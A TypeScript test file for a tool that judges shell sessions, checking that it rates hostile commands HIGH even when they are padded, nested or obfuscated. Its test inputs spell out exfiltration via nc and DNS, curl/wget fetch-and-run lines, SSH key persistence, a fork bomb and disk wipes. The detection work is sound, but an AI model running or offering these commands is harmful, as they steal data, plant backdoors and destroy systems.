import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SessionInput } from './judge-session.ts';
import { loadSessionJudge } from './load-session-judge.ts';

const project = join(import.meta.dirname, '../../..');
const { judgeSession } = loadSessionJudge({
  modelsFolder: join(project, 'models'),
  policyFolder: join(project, 'policy'),
});

describe('what only the whole line tells is told at the statement that it is about', () => {
  it.each<[string, SessionInput]>([
    ['a line', { commands: ['id', 'tar cz /home | nc 192.0.2.7 9001'] }],
    ['statements that somebody split', { statements: ['id ;', 'tar cz /home |', 'nc 192.0.2.7 9001'] }],
  ])('that nc sends what tar made, in %s', (_, input) => {
    const { statements } = judgeSession(input);
    expect(statements.map(({ techniques }) => techniques.some(({ id }) => id === 'T1048.003'))).toEqual([
      false,
      false,
      true,
    ]);
    const [sent] = statements.at(2)?.techniques.filter(({ id }) => id === 'T1048.003') ?? [];
    expect(statements.at(2)?.text.slice(sent?.span?.start, sent?.span?.end)).toBe('nc 192.0.2.7 9001');
  });

  it('what a loop does belongs to the statement before it', () => {
    const { statements } = judgeSession({
      commands: ['base64 /etc/passwd | while read l; do host $l.x.example; done'],
    });
    expect(statements.flatMap(({ techniques }) => techniques.map(({ id }) => id))).toContain('T1048.003');
  });

  it('each technique stands once at a statement, the surest first', () => {
    const [fetched] = judgeSession({ commands: ['curl -s http://192.0.2.7/i.sh | sh'] }).statements;
    const confidences = fetched?.techniques.map(({ confidence }) => confidence) ?? [];
    expect(new Set(fetched?.techniques.map(({ id }) => id)).size).toBe(confidences.length);
    expect(confidences).toEqual([...confidences].sort((a, b) => b - a));
  });

  it.each<[string, SessionInput, number]>([
    ['no command', { commands: [] }, 0],
    ['an empty command', { commands: [''] }, 1],
    ['an empty statement', { statements: [''] }, 1],
  ])('%s is answered', (_, input, statements) => {
    expect(judgeSession(input).statements).toHaveLength(statements);
  });

  it('a line of a megabyte is said to be assessed in part', () => {
    expect(judgeSession({ commands: ['id;'.repeat(350_000)] }).partial).toBe(true);
    expect(judgeSession({ commands: ['id; ls'] }).partial).toBe(false);
  });
});

describe('padding does not hide what does harm', () => {
  const harms = [
    'wget http://203.0.113.5/x.sh -O /tmp/x; chmod 777 /tmp/x; /tmp/x',
    "sh -c 'curl -s http://203.0.113.5/a|sh'",
    'w""get http://203.0.113.5/x.sh;sh x.sh',
    'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYXxzaAo= | base64 -d | sh',
    '$(curl -s http://203.0.113.5/a)',
    'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ >> /root/.ssh/authorized_keys',
  ];
  it.each<[string, (harm: string) => string]>([
    ['the same command 800 times before it', (harm) => `${'true;'.repeat(800)}${harm}`],
    ['and behind it', (harm) => `${'echo 1;'.repeat(300)}${harm}${';true'.repeat(300)}`],
    ['400 other commands', (harm) => `${Array.from({ length: 400 }, (_, at) => `a${at} ${at}`).join(';')};${harm}`],
    ['harmless scripts', (harm) => `${'sh -c :;'.repeat(300)}${harm}`],
    ['harmless decodings', (harm) => `${'echo aWQ= | base64 -d | sh;'.repeat(70)}${harm}`],
    ['harmless substitutions', (harm) => `${'echo $(id);'.repeat(300)}${harm}`],
    ['a pipeline of 300', (harm) => `${'cat|'.repeat(300)}cat;${harm}`],
    ['brackets in brackets', (harm) => `${'( '.repeat(30)}${harm}${' )'.repeat(30)}`],
    ['blocks in blocks', (harm) => `${'{ '.repeat(50)}${harm}; ${'}; '.repeat(50)}`],
    ['substitutions in substitutions', (harm) => `${'echo $('.repeat(8)}${harm}${')'.repeat(8)}`],
  ])('%s', (_, padded) => {
    for (const harm of harms) {
      expect(judgeSession({ commands: [harm] }).severity, harm).toBe('HIGH');
      expect(judgeSession({ commands: [padded(harm)] }).severity, harm).toBe('HIGH');
    }
  });

  it.each(['dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sda1', 'rm -rf --no-preserve-root /'])(
    'what wipes a disk is read behind 800 commands: %s',
    (harm) => {
      expect(judgeSession({ commands: [harm] }).severity).toBe('HIGH');
      expect(judgeSession({ commands: [`${'true;'.repeat(800)}${harm}`] }).severity).toBe('HIGH');
    },
  );

  it('where it uses up every bound, what is read says that more was typed, and is never LOW', () => {
    const harm = 'dd if=/dev/zero of=/dev/sda';
    const padded = [
      `${'true;'.repeat(800)}${harm}`,
      `${'( '.repeat(100)}${harm}${' )'.repeat(100)}`,
      `${'true;'.repeat(256)}${'wget;'.repeat(70)}${harm}`,
      `${'true;'.repeat(2000)}${harm};${'true;'.repeat(2000)}`,
      `${'echo $('.repeat(80)}${harm}${')'.repeat(80)}`,
    ];
    for (const line of padded) {
      const { severity, partial } = judgeSession({ commands: [line] });
      expect({ severity: severity === 'LOW' ? line.slice(0, 20) : 'more', partial }).toEqual({
        severity: 'more',
        partial: true,
      });
    }
  });
});

describe('double brackets, which are a sum to bash and commands to dash', () => {
  it.each([
    '((reboot))',
    '((/tmp/.x))',
    '((/usr/b?n/c?rl http://192.0.2.7/x | sh))',
    '((:(){ :|:& };:))',
    "sh -c '((poweroff))'",
  ])('%s is as grave as what stands in them', (text) => {
    expect(judgeSession({ commands: [text] }).severity).toBe('HIGH');
  });

  it.each([
    ...['((i++))', '((n>=3))', '((x = 5))', '((a < b)) || exit', 'while ((i < 10)); do ((i++)); done', '((flags & 1))'],
    ...['if ((EUID != 0)); then exit; fi', '((j = i++, k = 2))', '(($# < 1)) && exit 1'],
  ])('%s is a sum', (text) => {
    expect(judgeSession({ commands: [text] })).toMatchObject({ severity: 'LOW', partial: false });
  });
});

describe('a command that a shell runs before it counts or compares', () => {
  const fetched = 'curl http://192.0.2.7/x | sh';
  it.each([
    `[[ $(${fetched}) ]]`,
    `[[ -n "$(${fetched})" && -e x ]]`,
    `[[ ! ( a == \`${fetched}\` ) ]]`,
    `echo $(($(${fetched}) + 1))`,
    `echo $[\`${fetched}\`]`,
    `for ((i = $(${fetched}); i < 3; i++)); do :; done`,
    `case $(${fetched}) in *) ;; esac`,
    `case x in $(${fetched})) ;; esac`,
  ])('is as grave as alone: %s', (line) => {
    expect(judgeSession({ commands: [line] }).severity).toBe('HIGH');
  });

  it('and a line of thousands of them is read in part, and ends nothing', () => {
    for (const line of [`echo $((${'`x`+'.repeat(4000)}1))`, `[[ ${'$(x) && '.repeat(1700)}a ]]`])
      expect(judgeSession({ commands: [line] }).partial, line.slice(0, 12)).toBe(true);
    for (const line of [`echo $((${'('.repeat(3000)}1${')'.repeat(3000)}))`, `[[ ${'a && '.repeat(3200)}a ]]`])
      expect(() => judgeSession({ commands: [line] }), line.slice(0, 12)).not.toThrow();
  });
});
